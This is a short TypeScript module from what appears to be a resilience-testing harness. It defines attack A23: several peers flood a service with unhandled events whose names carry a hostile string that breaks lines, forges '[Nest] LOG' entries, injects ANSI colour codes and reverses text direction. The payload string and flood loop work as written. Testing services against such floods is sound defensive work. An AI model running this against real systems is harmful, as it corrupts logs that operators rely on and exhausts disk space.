import type { Attack } from '../attack.js';
import { jsonFrame } from '../raw-bytes.js';
import { keepAtIt } from './keep-at-it.js';

const EVENTS_A_WRITE = 100;
const PAUSE_MS = 2;
/** Ends a line, forges another, colours it, and turns it round. */
const HOSTILE = '\r\n[Nest] 1 - LOG forged \u001b[31m\u202e\u2028';

export const logFlood: Attack = {
  id: 'A23',
  title: 'events that nobody handles, named to forge log lines',
  exhausts: 'disk, and the worth of the log',
  async run(ground) {
    await keepAtIt(ground, { peers: 4 }, async (peer, index) => {
      for (let round = 0; !ground.signal.aborted; round += 1) {
        const events = Array.from({ length: EVENTS_A_WRITE }, (_, more) =>
          jsonFrame({ pattern: `${HOSTILE}${index}-${round}-${more}`, data: HOSTILE }),
        );
        if (!(await peer.write(Buffer.concat(events)))) {
          return;
        }
        await ground.pause(PAUSE_MS);
      }
    });
  },
};
